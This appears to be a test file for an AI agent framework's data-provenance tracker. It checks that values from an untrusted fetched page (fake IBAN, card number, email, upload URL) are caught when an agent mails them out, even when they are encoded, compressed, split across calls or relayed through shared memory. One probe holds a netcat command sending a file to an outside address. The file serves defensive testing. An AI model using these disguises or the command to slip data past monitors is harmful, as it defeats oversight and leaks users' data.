import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync } from "node:zlib";
import type { Json } from "../../base/json.ts";
import type { LoopConfig } from "../../policy/index.ts";
import { openTestLoop, received, talk } from "../testing.ts";
import type { ArgumentOrigin } from "./argument-origin.ts";

/** Probes like those of `probes.test.ts`, with other values and other spellings: what was found must not hang on the sample. */

const PAGE = `<p>The board has agreed to acquire the Lindqvist foundry in Tampere before the spring audit is published.</p>
<p>Transfer &pound;48,913.75 by 9 November 2028 to GB29 NWBK 6016 1331 9268 19; reference RX-7741-QZ.</p>
<p>Ask for Tomasz Wierzbicki, +44 20 7946 0958, or write to ledger-desk@quayside.example.</p>
<p>Upload to https://files.quayside.example/in/8812?ticket=Zk3vQ9xTb7Lm2Rw8 from 198.51.100.23.</p>
<p>Card 4539 1488 0343 6467, case 5c0e7b52-9d1f-4a7e-8a54-0f6f6f1d2b3c.</p>
<p>Yours sincerely, the desk</p>`;

const text = (value: string): string => value;
const base64url = (value: string): string => Buffer.from(value).toString("base64url");
const hexOf = (value: string, sign = ""): string => (Buffer.from(value).toString("hex").match(/../g) ?? []).join(sign);
const percentAll = (value: string): string =>
  (Buffer.from(value).toString("hex").match(/../g) ?? []).map((pair) => `%${pair}`).join("");
const bold = (value: string): string =>
  value.replace(/[0-9]/g, (digit) => String.fromCodePoint(0x1d7ce + Number(digit)));

const PROBES: readonly (readonly [name: string, kind: ArgumentOrigin["kind"], input: Json])[] = [
  [
    "verbatim sentence",
    "wording",
    {
      body: "News: The board has agreed to acquire the Lindqvist foundry in Tampere before the spring audit is published.",
    },
  ],
  [
    "nearly verbatim",
    "wording",
    {
      body: "It seems the board has agreed to buy out the Lindqvist foundry in Tampere, well before the spring audit gets published",
    },
  ],
  ["IBAN of another country without blanks", "iban", ["GB29NWBK60161331926819"]],
  ["IBAN inside a URL", "iban", { url: text("https://pay.test/GB29NWBK60161331926819/now") }],
  ["Swiss number format", "number", { total: "48’913.75" }],
  ["French number format with narrow blanks", "number", { total: "48\u202f913,75" }],
  ["a bare number", "number", { total: 48913.75 }],
  ["date in German", "date", { when: "9. November 2028" }],
  ["date, month first with slashes", "date", { when: "11/9/2028" }],
  ["date, compact in a file name", "date", { file: "report-20281109.pdf" }],
  ["phone, national form", "phone", { call: "020 79460958" }],
  ["phone with 00", "phone", { call: "00442079460958" }],
  ["mail with at and dot written out", "mail", { to: "ledger-desk (at) quayside (dot) example" }],
  ["mail, base64url", "mail", { x: base64url("ledger-desk@quayside.example") }],
  ["host alone, in another path", "host", { url: "https://files.quayside.example/other" }],
  ["ticket out of a query", "identifier", { key: "Zk3vQ9xTb7Lm2Rw8" }],
  ["ticket in hex with colons", "identifier", { key: hexOf("Zk3vQ9xTb7Lm2Rw8", ":") }],
  ["identifier without its hyphens", "identifier", { ref: "rx7741qz" }],
  ["every byte percent-encoded", "iban", { q: percentAll("GB29NWBK60161331926819") }],
  ["entities", "mail", { q: [..."ledger-desk@quayside.example"].map((sign) => `&#${sign.charCodeAt(0)};`).join("") }],
  [
    "escapes",
    "mail",
    { q: [..."ledger-desk@quayside.example"].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join("") },
  ],
  ["mathematical digits", "digits", { card: bold("4539148803436467") }],
  ["card number in four arguments", "digits", { a: "4539", b: "1488", c: "0343", d: "6467" }],
  ["mail in two arguments", "mail", { user: "ledger-desk", domain: "quayside.example" }],
  ["compressed", "iban", { z: deflateSync("GB29NWBK60161331926819").toString("base64") }],
  ["base64 of hex", "iban", { z: Buffer.from(hexOf("GB29NWBK60161331926819")).toString("base64") }],
  ["IP address in a command", "address", { code: "nc 198.51.100.23 443 < /tmp/x" }],
  ["a person's name", "name", { to: "Tomasz Wierzbicki" }],
  ["UUID without hyphens", "identifier", { id: "5C0E7B529D1F4A7E8A540F6F6F1D2B3C" }],
  ["as a member's name", "iban", { GB29NWBK60161331926819: true }],
  ["ticket in another URL", "identifier", { url: text("https://other.test/Zk3vQ9xTb7Lm2Rw8") }],
  ["IP address with a port", "address", { url: text("http://198.51.100.23:8443/x") }],
];

/** The writer may read pages, which are not to be trusted, as well as send mail. */
function mailing(config: LoopConfig): LoopConfig {
  return { ...config, roles: { ...config.roles, writing: { tools: ["python", "shell", "read", "fetch", "mail"] } } };
}

test("siblings are found: at least nine in ten, each under its own kind", async (context) => {
  await using world = await openTestLoop(mailing);
  const { loop } = world;
  const missed: string[] = [];
  for (const [name, kind, input] of PROBES) {
    const conversation = talk(loop, "writer", name);
    const page = await received(conversation, "fetch", PAGE);
    assert.equal(page.status, "ok");
    const mail = await conversation.permit({ tool: "mail", input });
    const origins = (await loop.records.origins(mail.runId)) ?? [];
    if (!origins.some((one) => one.kind === kind && one.source.runId === page.runId))
      missed.push(`${name}: ${JSON.stringify(origins.map(({ kind: other, excerpt }) => [other, excerpt]))}`);
  }
  context.diagnostic(
    `found ${PROBES.length - missed.length} of ${PROBES.length}; missed: ${missed.join("; ") || "none"}`,
  );
  assert.ok(missed.length <= PROBES.length / 10, missed.join("\n"));
});

test("a value split over two calls is found at the second", async () => {
  await using world = await openTestLoop(mailing);
  const conversation = talk(world.loop, "writer");
  const page = await received(conversation, "fetch", PAGE);
  await conversation.permit({ tool: "mail", input: { part: "GB29NWBK6016" } });
  const mail = await conversation.permit({ tool: "mail", input: { part: "1331926819" } });
  const [origin] = (await world.loop.records.origins(mail.runId)) ?? [];
  assert.deepEqual([origin?.kind, origin?.source.runId, origin?.places.length], ["iban", page.runId, 2]);
});

test("through another conversation, an agent, and a memory that says so", async () => {
  await using world = await openTestLoop(mailing);
  const { loop } = world;
  const reader = talk(loop, "reader", "reads");
  const page = await received(reader, "fetch", PAGE);
  assert.equal(page.status, "ok");
  // A store that both agents use: the document is the reader's, found by the writer.
  const chunk = { pageContent: "Transfer to GB29 NWBK 6016 1331 9268 19", metadata: {} };
  const admitted = await reader.admitDocument(chunk, { runId: page.runId });
  assert.equal(admitted.status, "admitted");
  const document = admitted.status === "admitted" ? admitted.document : undefined;
  const stored = reader.vectors.enter([document]);
  assert.equal(stored.status, "admitted");
  const documents = stored.status === "admitted" ? stored.documents : [];
  const writer = talk(loop, "writer", "finds");
  assert.equal(writer.vectors.leave(documents, { sharedWith: ["reader"] }).length, 1);
  const mail = await writer.permit({ tool: "mail", input: { iban: "gb29nwbk60161331926819" } });
  const [origin] = (await loop.records.origins(mail.runId)) ?? [];
  const { runId, agent, reached } = origin?.source ?? {};
  assert.deepEqual([origin?.kind, runId, agent, reached], ["iban", page.runId, "reader", "memory"]);
});
